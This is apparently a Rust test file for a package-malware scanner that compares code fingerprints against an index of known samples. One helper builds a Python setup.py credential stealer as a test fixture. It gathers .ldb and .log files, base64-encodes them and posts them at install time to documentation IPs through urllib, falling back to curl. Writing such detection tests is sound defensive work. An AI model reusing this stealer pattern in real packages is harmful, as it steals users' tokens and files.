use model::{Analysis, Decision, Digest, Kind, Phase, Place, Shape, Target};

use super::*;
use crate::{Analyser, Limits, UserRules};

fn analyse(wanted: Wanted, files: &[(&str, &str)]) -> Analysis {
    let user = UserRules { shapes: wanted, ..UserRules::default() };
    let analyser = Analyser::new(&user).expect("the built-in rules are right");
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    let bytes = testkit::archive::tgz(&files);
    let target = Target { file_name: "x-1.0.tar.gz".into(), ecosystem: None, name: None, version: None };
    std::thread::scope(|scope| {
        let work = || analyser.analyse(&target, &bytes, &Limits::default(), false);
        let thread = std::thread::Builder::new().stack_size(64 << 20).spawn_scoped(scope, work);
        thread.expect("a thread starts").join().expect("no panic")
    })
}

/// An inert stealer: its hosts are for documentation, and nothing runs it.
fn stealer(host: &str, [walk, send, found]: [&str; 3], order: bool) -> String {
    let first = format!(
        "def {walk}(root):\n    {found} = {{}}\n    for folder, _, names in os.walk(root):\n        for name in names:\n            \
         if name.endswith('.ldb') or name.endswith('.log'):\n                with open(os.path.join(folder, name), 'rb') as file:\n                    \
         {found}[name] = base64.b64encode(file.read()).decode()\n    return {found}\n"
    );
    let second = format!(
        "def {send}(data):\n    body = json.dumps({{'user': os.getlogin(), 'data': data}}).encode()\n    headers = {{'X-Key': \
         '{host}'}}\n    try:\n        return request.urlopen(request.Request('http://{host}/', data=body, headers=headers))\n    \
         except Exception:\n        return subprocess.run(['curl', '-d', body.decode(), 'http://{host}/'], check=False)\n"
    );
    let (first, second) = if order { (first, second) } else { (second, first) };
    format!(
        "import base64, json, os, subprocess\nimport urllib.request as request\nfrom setuptools import setup\n\n{first}\n{second}\n\
         {send}({walk}(os.path.expanduser('~/.config/example')))\nsetup(name='x', version='1.0')\n"
    )
}

fn known() -> Vec<Shape> {
    analyse(Wanted::Running, &[("x-1.0/setup.py", &stealer("198.51.100.7", ["gather", "post", "kept"], true))]).shapes
}

fn index_of(samples: &[(&str, Vec<Shape>)]) -> Index<Vec<u8>> {
    Index::open(bytes_of(samples)).expect("an index")
}

fn bytes_of(samples: &[(&str, Vec<Shape>)]) -> Vec<u8> {
    let mut builder = Builder::default();
    for (number, (label, shapes)) in samples.iter().enumerate() {
        builder.add_known(label, "x-1.0.tar.gz", Digest([number as u8; 32]), shapes.clone());
    }
    builder.finish().expect("a small index")
}

fn shape(shingles: impl IntoIterator<Item = u64>) -> Shape {
    let place = Place { path: "a.py".into(), line: 1, column: 1, layer: None };
    Shape { place, phase: Phase::Install, acts: true, shingles: shingles.into_iter().collect(), excepted: None }
}

/// Numbers that are spread as shingles are.
fn spread(range: std::ops::Range<u64>) -> Vec<u64> {
    let mut all: Vec<u64> = range.map(|one| one.wrapping_mul(0x9e37_79b9_7f4a_7c15)).collect();
    all.sort_unstable();
    all
}

#[test]
fn a_copy_under_other_names_and_hosts_is_a_proof_that_names_the_sample() {
    let index = index_of(&[("family-a", known())]);
    let copy = stealer("203.0.113.9", ["collect_all", "ship", "loot"], false);
    let mut analysis = analyse(Wanted::Running, &[("y-2.0/setup.py", &copy)]);
    compare(&index, &mut analysis);
    let finding = analysis.verdict.findings.iter().find(|one| one.rule == compare::RULE).expect("a finding");
    assert_eq!((finding.kind, finding.phase), (Kind::Proof, Phase::Install));
    assert!(finding.note.contains("family-a") && finding.places[0].path.ends_with("setup.py"), "{}", finding.note);
    assert_eq!(analysis.verdict.decision, Decision::Malicious);
    assert!(analysis.shapes.is_empty(), "a report has no shapes");
}

#[test]
fn a_part_of_it_is_an_indicator() {
    let index = index_of(&[("family-a", vec![shape(spread(0..200))])]);
    for (shared, kind) in
        [(139, None), (140, Some(Kind::Indicator)), (179, Some(Kind::Indicator)), (180, Some(Kind::Proof))]
    {
        let mut analysis = analyse(Wanted::Nothing, &[("y-2.0/setup.py", "")]);
        analysis.shapes = vec![shape(spread(200 - shared..400))];
        compare(&index, &mut analysis);
        let found = analysis.verdict.findings.iter().find(|finding| finding.rule == compare::RULE);
        assert_eq!(found.map(|finding| finding.kind), kind, "{shared} of 200");
    }
}

#[test]
fn what_waits_to_be_called_resembles_nothing() {
    let index = index_of(&[("family-a", vec![shape(spread(0..200))])]);
    let mut analysis = analyse(Wanted::Nothing, &[("y-2.0/setup.py", "")]);
    analysis.shapes = vec![Shape { phase: Phase::Runtime, ..shape(spread(0..200)) }];
    compare(&index, &mut analysis);
    assert_eq!(analysis.verdict.findings, []);
}

#[test]
fn scaffolding_of_honest_packages_matches_nothing() {
    let scaffold = "import io, os, re\nfrom setuptools import setup, find_packages\n\ndef read(*parts):\n    with \
                    io.open(os.path.join(os.path.dirname(__file__), *parts), encoding='utf8') as file:\n        return \
                    file.read()\n\ndef version(path):\n    found = re.search(r'^v = (.*)$', read(path), re.M)\n    if found:\n        \
                    return found.group(1)\n    raise RuntimeError('no version')\n\nsetup(name='a', version=version('a.py'), \
                    long_description=read('README.md'), packages=find_packages())\n";
    let evil = format!("import subprocess\nsubprocess.run(['tool', '-q'])\n{scaffold}");
    let mut builder = Builder::default();
    builder.add_known("family-b", "b", Digest([2; 32]), analyse(Wanted::Running, &[("b-1/setup.py", &evil)]).shapes);
    let alone = Index::open(builder.finish().expect("small")).expect("an index");
    assert_eq!(alone.counts().1, 1, "without honest packages all of it is distinctive");
    builder.add_honest(&analyse(Wanted::Whole, &[("c-1/setup.py", scaffold)]).shapes);
    let index = Index::open(builder.finish().expect("small")).expect("an index");
    assert_eq!(index.counts().1, 0, "what is left is too little to tell a sample by");
    let honest = analyse(Wanted::Running, &[("d-1/setup.py", scaffold)]);
    assert_eq!(resemblances(&index, &honest.shapes), []);
}

#[test]
fn what_does_nothing_is_no_part_of_a_sample_that_does_something() {
    let idle = Shape { acts: false, ..shape(spread(1000..1200)) };
    let index = index_of(&[("a", vec![shape(spread(0..100)), idle.clone()]), ("b", vec![idle.clone()])]);
    let owners = |range| {
        let matches = index.find(&spread(range));
        matches.iter().flat_map(|one| index.owners(one.unit).map(|one| one.sample.label)).collect::<Vec<_>>()
    };
    assert_eq!((owners(0..100), owners(1000..1200)), (vec!["a"], vec!["b"]));
}

#[test]
fn the_same_samples_make_the_same_bytes_in_any_order() {
    let samples = [("a", vec![shape(spread(0..100))]), ("b", vec![shape(spread(50..500)), shape(spread(900..1000))])];
    let bytes = |order: [usize; 2]| {
        let mut builder = Builder::default();
        for at in order {
            builder.add_known(samples[at].0, "name", Digest([at as u8; 32]), samples[at].1.clone());
        }
        builder.finish().expect("small")
    };
    assert_eq!(bytes([0, 1]), bytes([1, 0]));
    assert_ne!(bytes([0, 1]), bytes([0, 0]));
}

#[test]
fn every_shingle_is_found_and_no_other() {
    let all = spread(0..5000);
    let pieces = all.chunks(100).map(|chunk| shape(chunk.iter().copied())).collect();
    let index = index_of(&[("a", pieces)]);
    for chunk in all.chunks(100) {
        let found = index.find(chunk);
        assert_eq!((found.len(), found[0].shared, found[0].size), (1, 100, 100));
    }
    assert_eq!(index.find(&spread(5000..9000)), []);
    assert_eq!(index.find(&[0, 1, u64::MAX]).iter().map(|one| one.shared).sum::<u32>(), 1, "0 is in it");
}

#[test]
fn an_index_that_is_cut_or_changed_is_refused() {
    let bytes = bytes_of(&[("family-a", known())]);
    for cut in 0..bytes.len() {
        Index::open(&bytes[..cut]).expect_err("it is cut");
    }
    let longer = [&bytes[..], &[0]].concat();
    Index::open(&longer[..]).expect_err("it is too long");
    for at in 0..bytes.len() {
        let mut changed = bytes.clone();
        changed[at] ^= 0x55;
        let refused = Index::open(&changed[..]).and_then(|index| index.verify());
        assert!(refused.is_err(), "byte {at}");
    }
}

#[test]
fn a_hostile_index_is_read_without_harm() {
    let bytes = bytes_of(&[("family-a", known()), ("family-b", vec![shape(spread(0..100))])]);
    let query = known().remove(0).shingles;
    for at in layout::HEADER..bytes.len() - 4 {
        for value in [0, u32::MAX, 0x7fff_fff0] {
            let mut changed = bytes.clone();
            changed[at..at + 4].copy_from_slice(&value.to_le_bytes());
            let index = Index::open(&changed[..]).expect("the header is whole");
            for one in index.find(&query) {
                assert!(one.shared <= one.size);
                index.owners(one.unit).take(10).for_each(drop);
            }
        }
        if at % 16 == 0 {
            let mut changed = bytes.clone();
            changed[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
            clusters(&Index::open(&changed[..]).expect("the header is whole"));
        }
    }
}

#[test]
fn what_shares_code_is_one_group() {
    let index = index_of(&[
        ("a", vec![shape(spread(0..100))]),
        ("b", vec![shape(spread(10..110))]),
        ("c", vec![shape(spread(25..125))]),
        ("d", vec![shape(spread(900..1000))]),
        ("e", vec![shape(spread(0..3))]),
    ]);
    assert_eq!(clusters(&index), [vec![0, 1, 2], vec![3]]);
}

#[test]
fn the_index_is_a_part_of_the_ruleset() {
    let with = |index| crate::ruleset(&UserRules { index, ..UserRules::default() });
    let rulesets = [with(None), with(Some(Digest([1; 32]))), with(Some(Digest([2; 32])))];
    assert!(rulesets[0] != rulesets[1] && rulesets[1] != rulesets[2] && rulesets[0] != rulesets[2]);
}
